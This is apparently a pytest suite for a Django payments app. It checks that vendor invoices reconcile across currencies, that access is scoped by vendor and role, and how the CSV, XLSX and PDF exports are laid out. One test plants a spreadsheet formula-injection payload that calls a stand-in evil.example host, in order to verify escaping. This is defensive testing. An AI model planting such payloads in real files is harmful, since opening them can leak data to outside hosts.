"""Invoices and their files: totals that reconcile to the minor unit in EUR, JPY and KWD from
the ledger lines to the statements, the invoice and its CSV, XLSX and PDF files; labelers by
public code only; another vendor's invoice is a 404 and a labeler sees none; a constant number of
queries for a vendor's invoice; the payroll of internal staff for operations only; spreadsheet
cells escaped; the PDF laid out for a reader (labelled header, column names in words, text
within the margins and none over another, amounts on one right edge) and the XLSX's numbers
written as numbers."""

from __future__ import annotations

import base64
import csv
import io
import itertools
import re
import zlib
import zoneinfo
from collections import defaultdict
from datetime import datetime
from decimal import Decimal
from typing import NamedTuple

import openpyxl
import pytest
from django.db.models import Sum
from django.utils import timezone
from reportlab.lib.pagesizes import A4
from reportlab.lib.units import mm
from reportlab.pdfbase import pdfmetrics

from config.errors import Forbidden, NotFound
from payments import exports
from payments.models import Invoice, LedgerLine, PayPeriod
from payments.selectors.invoices import invoice_get_for, invoices_list_for, pay_periods_list_for
from payments.selectors.statements import statement_for
from payments.services.calculate import period_calculate
from tests.assignments.factories import make_project
from tests.factories import make_labeler
from tests.payments.factories import (
    DEC,
    JAN,
    contract,
    decided_labels,
    make_period,
    make_rate,
    set_policy,
    vendor_with_lines,
)
from workforce.models import User

pytestmark = pytest.mark.django_db


def approve_and_invoice(period: PayPeriod, *vendors) -> list[Invoice]:
    """The period approved and each vendor's invoice issued as ``period_approve`` would: its
    totals the sums of the vendor's lines, summed here by the database."""
    PayPeriod.objects.filter(pk=period.pk).update(status=PayPeriod.Status.APPROVED)
    invoices = []
    for number, vendor in enumerate(vendors, start=1):
        sums = (
            LedgerLine.objects.filter(period=period, vendor=vendor)
            .values("currency")
            .annotate(total=Sum("amount"))
        )
        invoices.append(
            Invoice.objects.create(
                vendor=vendor,
                period=period,
                number=number,
                totals={row["currency"]: str(row["total"]) for row in sums},
                issued_at=timezone.now(),
            )
        )
    return invoices


def csv_sections(data: bytes) -> dict[str, list[list[str]]]:
    """The CSV's rows by section title ("" for the header rows)."""
    sections: dict[str, list[list[str]]] = {"": []}
    current = ""
    for row in csv.reader(io.StringIO(data.decode("utf-8"))):
        if len(row) == 1:
            current = row[0]
            sections[current] = []
        elif row:
            sections[current].append(row)
    return sections


def pdf_text(data: bytes) -> str:
    """The text drawn on the PDF's pages: its streams, decoded (ASCII85, then inflated) where
    they are encoded."""
    texts = []
    for match in re.finditer(rb"<<(.*?)>>\s*stream\r?\n(.*?)endstream", data, re.S):
        header, body = match.groups()
        if b"ASCII85Decode" in header:
            body = base64.a85decode(body.strip(), adobe=True)
        if b"FlateDecode" in header:
            body = zlib.decompress(body)
        texts.append(body.decode("latin-1"))
    return "\n".join(texts)


@pytest.fixture
def world(vendor_a, vendor_b):
    """Two projects paid in the vendor's currency at rates of fractions of the minor unit,
    rejected work at a third, a fee of 7.5% plus 0.3 minor units a label; two labelers of
    vendor A, one of B."""

    def build(currency: str, rate: str, per_label: str):
        vendor_a.default_currency = currency
        vendor_a.save(update_fields=["default_currency"])
        contract(vendor_a, percent="7.5", per_label=per_label)
        projects = [
            make_project(tasks=0, slug="poles", name="Pole inspection"),
            make_project(tasks=0, slug="roofs", name="Roof survey"),
        ]
        people = [make_labeler(vendor=vendor_a), make_labeler(vendor=vendor_a)]
        other = make_labeler(vendor=vendor_b, username="bravo-person")
        for i, project in enumerate(projects):
            make_rate(project, rate, currency)
            set_policy(project, rejected_fraction="0.3333")
            for j, labeler in enumerate(people):
                decided_labels(project, labeler, accepted=7 + i + 3 * j, rejected=2 + j)
                decided_labels(project, labeler, accepted=3 + j, rejected=1, control=True)
            decided_labels(project, other, accepted=5)
        period = make_period()
        period_calculate(actor=None, period_id=period.pk)
        [invoice] = approve_and_invoice(period, vendor_a)
        period.refresh_from_db()
        return period, invoice, people

    return build


@pytest.mark.parametrize(
    ("currency", "rate", "per_label"),
    [("EUR", "0.0475", "0.003"), ("JPY", "4.75", "0.3"), ("KWD", "0.00475", "0.0003")],
)
def test_totals_reconcile_to_the_minor_unit_from_lines_to_statements_invoice_and_files(
    world, vendor_a, manager_a, currency, rate, per_label
):
    period, invoice, people = world(currency, rate, per_label)
    digits = {"EUR": 2, "JPY": 0, "KWD": 3}[currency]
    lines = LedgerLine.objects.filter(period=period, vendor=vendor_a)
    line_sum = sum(line.amount for line in lines)
    assert lines.filter(kind="vendor_fee").count() == 4  # percent and per label, per project
    assert all(line.amount == line.amount.quantize(Decimal(1).scaleb(-digits)) for line in lines)

    view = invoice_get_for(actor=manager_a, vendor_id=vendor_a.pk, invoice_id=invoice.pk)

    assert view.totals == {currency: line_sum} == view.issued_totals
    statements = [statement_for(labeler=labeler, period=period) for labeler in people]
    fees = sum(fee.amount for fee in view.fees)
    assert sum(s.totals[currency] for s in statements) + fees == line_sum
    assert sum(line.amount for line in view.lines) + fees == line_sum

    # CSV: every amount at the minor unit; the lines and fees add up to the totals.
    sections = csv_sections(exports.invoice_csv(view))
    assert sections[""][0] == ["Invoice", invoice.reference]
    assert ["Ledger hash", period.ledger_hash] in sections[""] and period.ledger_hash
    amounts = [row[6] for row in sections["Lines"][1:]] + [row[4] for row in sections["Fees"][1:]]
    pattern = r"-?\d+" + (rf"\.\d{{{digits}}}" if digits else "")
    assert all(re.fullmatch(pattern, text) for text in amounts), amounts
    totals = {row[0]: Decimal(row[1]) for row in sections["Totals"][1:]}
    assert totals == {currency: line_sum} == {currency: sum(map(Decimal, amounts))}

    # XLSX read back: the same totals, amounts shown to the minor unit.
    sheet = openpyxl.load_workbook(io.BytesIO(exports.invoice_xlsx(view))).active
    rows = [list(row) for row in sheet.iter_rows()]
    at = next(i for i, row in enumerate(rows) if row[0].value == "Totals")
    total_cell = rows[at + 2][1]
    assert rows[at + 2][0].value == currency
    assert Decimal(str(total_cell.value)) == line_sum
    assert total_cell.number_format == ("0." + "0" * digits if digits else "0")
    assert sheet["B1"].value == invoice.reference

    # PDF: a PDF, with the reference, the hash and the total as the CSV writes it.
    for compress in (True, False):
        data = exports.invoice_pdf(view, compress=compress)
        assert data.startswith(b"%PDF")
        text = pdf_text(data)
        for expected in (invoice.reference, period.ledger_hash, exports.money(line_sum, currency)):
            assert f"({expected})" in text
    assert exports.invoice_pdf(view) == exports.invoice_pdf(view)  # the same bytes


def test_an_invoice_names_labelers_by_public_code_only(world, vendor_a, ops_user):
    _, invoice, people = world("EUR", "0.05", "0")
    User.objects.filter(labeler__in=people).update(
        first_name="Zelda", last_name="Quartermain", email="zq@mail.example.test"
    )
    view = invoice_get_for(actor=ops_user, vendor_id=vendor_a.pk, invoice_id=invoice.pk)

    assert {line.public_code for line in view.lines} == {p.public_code for p in people}
    sheet = openpyxl.load_workbook(io.BytesIO(exports.invoice_xlsx(view))).active
    files = {
        "csv": exports.invoice_csv(view).decode(),
        "xlsx": repr([[c.value for c in row] for row in sheet.iter_rows()]),
        "pdf": pdf_text(exports.invoice_pdf(view, compress=False)),
    }
    for name, text in files.items():
        assert people[0].public_code in text, name
        for secret in ("Zelda", "Quartermain", "zq@mail", *(p.user.username for p in people)):
            assert secret not in text, (name, secret)
        assert "bravo-person" not in text


def test_invoices_are_scoped_to_their_vendor(
    world, vendor_a, vendor_b, manager_a, manager_b, ops_user
):
    _, invoice, people = world("EUR", "0.05", "0")
    assert list(invoices_list_for(actor=manager_a, vendor_id=vendor_a.pk)) == [invoice]
    assert list(invoices_list_for(actor=ops_user, vendor_id=vendor_a.pk)) == [invoice]
    assert list(invoices_list_for(actor=manager_b, vendor_id=vendor_b.pk)) == []
    for actor, vendor in (
        (manager_b, vendor_a),  # another vendor's
        (people[0].user, vendor_a),  # a labeler never sees invoices
    ):
        with pytest.raises(NotFound):
            invoices_list_for(actor=actor, vendor_id=vendor.pk)
        with pytest.raises(NotFound):
            invoice_get_for(actor=actor, vendor_id=vendor.pk, invoice_id=invoice.pk)
    with pytest.raises(NotFound):  # the invoice asked for under another vendor
        invoice_get_for(actor=manager_b, vendor_id=vendor_b.pk, invoice_id=invoice.pk)


def test_pay_periods_ops_see_all_others_approved_and_closed(world, manager_a, ops_user):
    approved, _, _ = world("EUR", "0.05", "0")
    under_way = make_period(DEC, JAN)
    assert list(pay_periods_list_for(actor=ops_user)) == [under_way, approved]
    assert list(pay_periods_list_for(actor=manager_a)) == [approved]


def test_a_vendors_invoice_costs_at_most_ten_queries_for_200_labelers(
    vendor_a, manager_a, django_assert_max_num_queries
):
    project = make_project(tasks=0)
    period = make_period()
    vendor_with_lines(vendor_a, project, period, 200)
    [invoice] = approve_and_invoice(period, vendor_a)

    with django_assert_max_num_queries(10):
        view = invoice_get_for(actor=manager_a, vendor_id=vendor_a.pk, invoice_id=invoice.pk)
    assert len(view.lines) == 400 and view.totals == {"EUR": Decimal(400)} == view.issued_totals
    pdf = exports.invoice_pdf(view, compress=False)
    assert pdf.count(b"/Type /Page\n") > 5  # the lines run over pages
    assert "(400.00)" in pdf_text(pdf)


def test_the_payroll_lists_internal_staff_per_currency_for_ops_only(
    vendor_a, manager_a, ops_user, vendor_labeler
):
    eur, jpy = make_project(tasks=0, slug="eur"), make_project(tasks=0, slug="jpy", name="=JPY")
    ida = make_labeler(username="ida")
    User.objects.filter(pk=ida.user_id).update(first_name="=HYPERLINK(1)", last_name="Ito")
    make_rate(eur, "0.125", "EUR")
    make_rate(jpy, "12.5", "JPY")
    for project in (eur, jpy):
        decided_labels(project, ida, accepted=3)
        decided_labels(project, ida, accepted=2, control=True)
        decided_labels(project, vendor_labeler, accepted=4)
    period = make_period()
    period_calculate(actor=None, period_id=period.pk)

    rows = list(
        csv.reader(io.StringIO(exports.payroll_csv(actor=ops_user, period_id=period.pk).decode()))
    )

    assert rows == [
        list(exports.PAYROLL_COLUMNS),
        ["2026-11", ida.public_code, "ida", "'=HYPERLINK(1) Ito", "EUR", "0.63"],
        ["2026-11", ida.public_code, "ida", "'=HYPERLINK(1) Ito", "JPY", "63"],
    ]
    with pytest.raises(NotFound):  # a period not approved is not the manager's to see
        exports.payroll_csv(actor=manager_a, period_id=period.pk)
    PayPeriod.objects.filter(pk=period.pk).update(status=PayPeriod.Status.APPROVED)
    with pytest.raises(Forbidden):
        exports.payroll_csv(actor=manager_a, period_id=period.pk)


def test_invoice_cells_that_would_run_as_formulae_are_escaped(vendor_a, manager_a):
    project = make_project(tasks=0, name='=HYPERLINK("https://evil.example/?"&A1,"open")')
    labeler = make_labeler(vendor=vendor_a)
    make_rate(project, "0.10", "EUR")
    decided_labels(project, labeler, accepted=2)
    period = make_period()
    period_calculate(actor=None, period_id=period.pk)
    [invoice] = approve_and_invoice(period, vendor_a)
    view = invoice_get_for(actor=manager_a, vendor_id=vendor_a.pk, invoice_id=invoice.pk)

    [line] = csv_sections(exports.invoice_csv(view))["Lines"][1:]
    assert line[1] == "'" + project.name
    sheet = openpyxl.load_workbook(io.BytesIO(exports.invoice_xlsx(view))).active
    names = [row[1].value for row in sheet.iter_rows() if row[0].value == labeler.public_code]
    assert names == ["'" + project.name]
    # The PDF draws the name as text, wrapped in its column (its quotes and ampersand are no
    # markup to ReportLab).
    text = pdf_text(exports.invoice_pdf(view, compress=False))
    assert all(f"({part})" in text for part in ("=HYPERLINK\\(", "&", "open")), text


BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")


@pytest.fixture
def sample(vendor_a, manager_a):
    """A vendor's invoice as their accountant gets it: two labelers on a project whose name
    needs two lines, paid per accepted label and a third of that per rejected one (a rate of
    six decimals), a fee of 7.5% plus 0.003 EUR a label, November in Europe/Berlin."""
    contract(vendor_a, percent="7.5", per_label="0.003")
    project = make_project(
        tasks=0, slug="northern", name="Northern region power-line pole inspection, phase 2"
    )
    people = [make_labeler(vendor=vendor_a), make_labeler(vendor=vendor_a)]
    make_rate(project, "0.0475", "EUR")
    set_policy(project, rejected_fraction="0.3333")
    for j, labeler in enumerate(people):
        decided_labels(project, labeler, accepted=7 + 3 * j, rejected=2 + j)
    period = make_period(
        datetime(2026, 11, 1, tzinfo=BERLIN),
        datetime(2026, 12, 1, tzinfo=BERLIN),
        timezone="Europe/Berlin",
    )
    period_calculate(actor=None, period_id=period.pk)
    [invoice] = approve_and_invoice(period, vendor_a)
    return invoice_get_for(actor=manager_a, vendor_id=vendor_a.pk, invoice_id=invoice.pk)


class Drawn(NamedTuple):
    """A string drawn on a PDF page: where it starts and ends on its baseline (points from
    the page's bottom left), its font and size."""

    page: int
    text: str
    left: float
    right: float
    baseline: float
    font: str
    size: float


PDF_TOKEN = re.compile(
    rb"\((?:\\.|[^\\)])*\)|/[^\s/\[\]()<>]+|[-+]?(?:\d+\.?\d*|\.\d+)|[A-Za-z*']+"
)


def _pdf_string(token: bytes) -> str:
    """A PDF string literal's text: ``\\(``, ``\\)``, ``\\\\`` and octal escapes undone."""

    def unescape(match: re.Match[bytes]) -> bytes:
        escaped = match.group(1)
        return bytes([int(escaped, 8)]) if escaped[:1].isdigit() else escaped

    return re.sub(rb"\\([0-7]{1,3}|.)", unescape, token[1:-1], flags=re.S).decode("cp1252")


def pdf_drawn(data: bytes) -> list[Drawn]:
    """Every string the (uncompressed) PDF draws, placed on its page: the page streams are
    read as ReportLab writes them (translations by ``cm`` inside ``q``/``Q``, text placed by
    ``Tm``, ``Td`` and ``T*``, shown by ``Tj``, each string after the one before it on its
    line)."""
    fonts = {
        name.decode(): base.decode()
        for base, name in re.findall(rb"/BaseFont /(\S+) .*?/Name /(\S+)", data)
    }
    drawn = []
    pages = re.findall(rb"<<[^>]*>>\s*stream\r?\n(.*?)endstream", data, re.S)
    for page, stream in enumerate(s for s in pages if b" Tj" in s):
        stack, ctm = [], (1.0, 0.0, 0.0, 1.0, 0.0, 0.0)
        line, advance = (0.0, 0.0), 0.0
        leading, font, size = 0.0, "", 0.0
        args: list[bytes] = []
        for token in PDF_TOKEN.findall(stream):
            if token[:1] in b"(/" or re.fullmatch(rb"[-+.\d]+", token):
                args.append(token)
                continue
            numbers = [float(a) for a in args if a[:1] not in b"(/"]
            if token == b"q":
                stack.append(ctm)
            elif token == b"Q":
                ctm = stack.pop()
            elif token == b"cm":
                a, b, c, d, e, f = numbers
                A, B, C, D, E, F = ctm
                ctm = (
                    a * A + b * C,
                    a * B + b * D,
                    c * A + d * C,
                    c * B + d * D,
                    e * A + f * C + E,
                    e * B + f * D + F,
                )
            elif token == b"Tm":
                line, advance = (numbers[4], numbers[5]), 0.0
            elif token == b"Td":
                line, advance = (line[0] + numbers[0], line[1] + numbers[1]), 0.0
            elif token == b"TL":
                leading = numbers[0]
            elif token == b"T*":
                line, advance = (line[0], line[1] - leading), 0.0
            elif token == b"Tf":
                font, size = fonts[args[0][1:].decode()], numbers[0]
            elif token == b"Tj":
                text = _pdf_string(args[-1])
                a, _, c, d, e, f = ctm
                width = pdfmetrics.stringWidth(text, font, size)
                x, y = a * (line[0] + advance) + c * line[1] + e, d * line[1] + f
                drawn.append(Drawn(page, text, x, x + a * width, y, font, size))
                advance += width
            args = []
    return drawn


def test_the_invoice_pdf_reads_as_an_invoice(sample):
    """Headed by who, which invoice, what period (dates labelled, in the period's time zone)
    and when issued; tables within the margins with no text over another, in words a reader
    knows, amounts right-aligned; the totals last; the ledger hash in small print."""
    drawn = pdf_drawn(exports.invoice_pdf(sample, compress=False))
    words = " ".join(d.text for d in drawn)
    width, _ = A4
    margin = 15 * mm

    assert [d for d in drawn if d.left < margin - 0.01 or d.right > width - margin + 0.01] == []
    rows = defaultdict(list)
    for d in drawn:
        rows[d.page, round(d.baseline, 1)].append(d)
    for row in rows.values():
        row.sort(key=lambda d: d.left)
        overlaps = [(a.text, b.text) for a, b in itertools.pairwise(row) if a.right > b.left + 0.01]
        assert overlaps == [], overlaps

    for label, value in (
        ("Vendor", "Acme Annotation"),
        ("Invoice number", sample.reference),
        ("Period", "2026-11"),
        ("First day", "2026-11-01"),
        ("Last day", "2026-11-30"),
        ("Time zone", "Europe/Berlin"),
        ("Issue date", sample.invoice.issued_at.date().isoformat()),
    ):
        [at] = [d for d in drawn if d.text == label]
        assert [d.text for d in rows[at.page, round(at.baseline, 1)]] == [label, value]
    for header in (
        "Labeler (public code)",
        "Project",
        "Kind",
        "Quantity",
        "Unit rate",
        "Amount",
        "Currency",
    ):
        assert header in words
    assert "_" not in words.replace(sample.ledger_hash, "")  # no field names
    assert "Task, accepted" in words and "Vendor fee:" in words
    project = "Northern region power-line pole inspection, phase 2"
    assert project in words and project not in {d.text for d in drawn}  # wrapped in its cell

    amounts = {exports.money(row.amount, "EUR") for row in (*sample.lines, *sample.fees)}
    total = exports.money(sample.totals["EUR"], "EUR")
    amount_cells = [d for d in drawn if d.text in {*amounts, total}]
    assert len(amount_cells) == len(sample.lines) + len(sample.fees) + 1
    assert len({round(d.right, 2) for d in amount_cells}) == 1  # one right edge
    assert amount_cells[-1].text == total and amount_cells[-1].font == "Helvetica-Bold"
    [total_label] = [d for d in drawn if d.text == "Total EUR"]
    assert [d.text for d in rows[total_label.page, round(total_label.baseline, 1)]] == [
        "Total EUR",
        total,
    ]
    assert drawn.index(total_label) > max(drawn.index(d) for d in drawn if d.text == "Fees")

    [ledger_hash] = [d for d in drawn if d.text == sample.ledger_hash]
    assert ledger_hash.size < min(d.size for d in amount_cells)
    assert ledger_hash.baseline < total_label.baseline


def test_the_invoice_xlsx_writes_every_number_as_a_number_and_the_csv_as_its_text(sample):
    """Quantities, unit rates and amounts are numbers a spreadsheet sums, equal to the invoice's
    decimals and shown with the decimals the CSV writes (amounts at the minor unit, rates with
    their significant decimals); the CSV keeps its field names as column names."""
    csv_rows = csv_sections(exports.invoice_csv(sample))
    sheet = openpyxl.load_workbook(io.BytesIO(exports.invoice_xlsx(sample))).active
    titles = {row[0].value: number for number, row in enumerate(sheet.iter_rows()) if row}
    cells = list(sheet.iter_rows())
    for title, rows, first in (("Lines", sample.lines, 4), ("Fees", sample.fees, 2)):
        header = [c.value for c in cells[titles[title] + 1] if c.value is not None]
        assert header == csv_rows[title][0]
        for at, (row, text) in enumerate(zip(rows, csv_rows[title][1:], strict=True)):
            numbers = cells[titles[title] + 2 + at][first : first + 3]
            expected = (row.quantity, row.unit_rate, row.amount)
            for cell, value, written in zip(
                numbers, expected, text[first : first + 3], strict=True
            ):
                assert not isinstance(cell.value, str), (title, cell.value)
                assert Decimal(str(cell.value)) == value == Decimal(written)
                decimals = len(written.partition(".")[2])
                assert cell.number_format == ("0." + "0" * decimals if decimals else "0")
    assert csv_rows["Lines"][0] == [
        "public_code",
        "project",
        "kind",
        "basis",
        "quantity",
        "unit_rate",
        "amount",
        "currency",
    ]
    assert csv_rows["Fees"][0] == ["project", "fee", "quantity", "unit_rate", "amount", "currency"]
    assert sorted(row[4:6] for row in csv_rows["Lines"][1:]) == [
        ["10", "0.0475"],
        ["2", "0.015832"],
        ["3", "0.015832"],
        ["7", "0.0475"],
    ]


def test_an_invoice_without_lines_still_renders_in_every_format(vendor_a, manager_a):
    """A vendor whose labelers earned nothing in the period: the PDF says so, with no total."""
    period = make_period()
    [invoice] = approve_and_invoice(period, vendor_a)
    view = invoice_get_for(actor=manager_a, vendor_id=vendor_a.pk, invoice_id=invoice.pk)
    assert view.lines == view.fees == () and view.totals == {}

    assert csv_sections(exports.invoice_csv(view))["Totals"] == [["currency", "amount"]]
    assert openpyxl.load_workbook(io.BytesIO(exports.invoice_xlsx(view))).active["B1"].value
    words = " ".join(d.text for d in pdf_drawn(exports.invoice_pdf(view, compress=False)))
    assert "No lines." in words and "No fees." in words and "Total" not in words
